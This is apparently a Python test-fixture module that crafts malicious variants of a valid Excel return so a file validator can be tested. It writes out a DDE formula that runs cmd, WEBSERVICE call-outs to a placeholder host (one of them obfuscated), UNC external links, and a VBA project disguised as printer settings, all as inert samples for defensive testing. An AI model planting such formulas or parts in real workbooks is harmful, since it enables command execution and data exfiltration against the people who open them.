"""Build the hostile files a shared folder can hold: a valid return with one part changed, added or renamed.

Every builder starts from a genuine return (tests/returns.py) and changes its zip directly, byte for byte
elsewhere, so each file has exactly one defect.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from tests.returns import copy_of_valid, where

SHEET_PART = "xl/worksheets/sheet3.xml"  # Start, Summary, then the Case profile: xlsxwriter numbers them in order
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def parts(path: Path) -> dict[str, bytes]:
    """Every member of a zip, in order."""
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rewrite(path: Path, change: dict[str, bytes | None]) -> Path:
    """Replace, add or (with None) drop members, keeping the rest as they were."""
    members = parts(path)
    members.update(change)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            if data is not None:
                zf.writestr(name, data)
    return path


def returned(path: Path, seed: int = 1) -> Path:
    """A valid return to start from."""
    return copy_of_valid(path, seed=seed)


def with_sheet_xml(path: Path, edit: str) -> Path:
    """The Case profile sheet's XML edited by a function of its text."""
    return rewrite(path, {SHEET_PART: edit_text(parts(path)[SHEET_PART], edit)})


def edit_text(data: bytes, how: str) -> bytes:
    """Named edits of a sheet part's text."""
    text = data.decode("utf-8")
    if how == "utf7":
        text = re.sub(r'encoding="[^"]*"', 'encoding="UTF-7"', text, count=1)
    elif how == "bad-ref":
        text = re.sub(r'<c r="[A-Z]+\d+"', '<c r="1A"', text, count=1)
    elif how == "decoy":
        # A comment before the real data holding a decoy sheetData with another case reference in it.
        _, cell = where("profile_case_ref")
        decoy = f'<!-- <sheetData><row r="1"><c r="{cell}" t="inlineStr"><is><t>SYN-DECOY</t></is></c></row>' \
            "</sheetData> -->"
        text = text.replace("<sheetData>", decoy + "<sheetData>", 1)
    elif how == "webservice":
        text = _formula_into_a_cell(text, 'WEBSERVICE("http://example.invalid/?"&amp;A1)')
    elif how == "dde":
        text = _formula_into_a_cell(text, "cmd|' /C calc'!A0")
    elif how == "external-ref":
        text = _formula_into_a_cell(text, "[1]Sheet1!A1")
    elif how == "hyperlink-unc":
        text = _formula_into_a_cell(text, 'HYPERLINK("\\\\server\\share\\x.xlsx","open")')
    elif how == "hidden-webservice":
        # The call-out spelt with character references and split by a comment: what a parser sees counts.
        text = _formula_into_a_cell(text, "W&#69;BSERV<!-- x -->ICE(&quot;http://example.invalid&quot;)")
    elif how == "validation-ref":
        text = text.replace("<formula1>", "<formula1>[1]Lists!$A$1+", 1)
    else:
        raise ValueError(how)
    return text.encode("utf-8")


def _formula_into_a_cell(text: str, formula: str) -> str:
    """Give the first formula cell of the sheet another formula (same place, cached value kept)."""
    return re.sub(r"<f>[^<]*</f>", lambda _: f"<f>{formula}</f>", text, count=1)


def with_external_link(path: Path, target: str = "file:///\\\\server\\share\\book.xlsx") -> Path:
    """An external link part, as Excel writes one when a formula points at another workbook."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                             b'ContentType="application/vnd.openxmlformats-officedocument.'
                                             b'spreadsheetml.externalLink+xml"/></Types>')
    rels = m["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rId99" Type="{REL}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' +
            REL.encode() + b'"><externalBook r:id="rId1"/></externalLink>')
    link_rels = (f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{REL}/externalLinkPath" '
                 f'Target="{target}" TargetMode="External"/></Relationships>').encode()
    return rewrite(path, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                          "xl/externalLinks/externalLink1.xml": link,
                          "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def with_hidden_vba(path: Path) -> Path:
    """A VBA project stored as a 'printer settings' part, wired in by a vbaProject relationship."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                             b'vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>'
                                             b"</Types>")
    rels = m["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="printerSettings/printerSettings1.bin"/></Relationships>')
    return rewrite(path, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                          "xl/printerSettings/printerSettings1.bin": OLE_MAGIC + bytes(504)})


def with_ole_object(path: Path) -> Path:
    """An embedded OLE object (a 'package' a double-click would run)."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                             b'vnd.openxmlformats-officedocument.oleObject"/></Types>')
    return rewrite(path, {"[Content_Types].xml": types, "xl/embeddings/oleObject1.bin": OLE_MAGIC + bytes(504)})


def with_unknown_part(path: Path) -> Path:
    """A part no office application writes (a program), given its own content type."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="exe" '
                                             b'ContentType="application/x-msdownload"/></Types>')
    return rewrite(path, {"[Content_Types].xml": types, "xl/tools/run.exe": b"MZ" + bytes(100)})


def with_remote_picture(path: Path) -> Path:
    """A drawing whose picture is fetched from a network path when the workbook is opened."""
    m = parts(path)
    rels = (f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{REL}/image" '
            'Target="\\\\server\\share\\logo.png" TargetMode="External"/></Relationships>').encode()
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/xl/drawings/drawing1.xml" '
                                             b'ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"'
                                             b"/></Types>")
    drawing = b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>'
    return rewrite(path, {"[Content_Types].xml": types, "xl/drawings/drawing1.xml": drawing,
                          "xl/drawings/_rels/drawing1.xml.rels": rels})


def with_picture(path: Path, megabytes: float) -> Path:
    """A large pasted picture (incompressible bytes, as a photo is)."""
    m = parts(path)
    types = m["[Content_Types].xml"]
    if b'Extension="png"' not in types:
        types = types.replace(b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>')
    noise = bytes((i * 7919 + (i >> 8) * 104729) % 251 for i in range(int(megabytes * 1024 * 1024)))
    with zipfile.ZipFile(path) as zf:
        members = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info.filename, types if info.filename == "[Content_Types].xml" else data)
        zf.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + noise, compress_type=zipfile.ZIP_STORED)
    return path
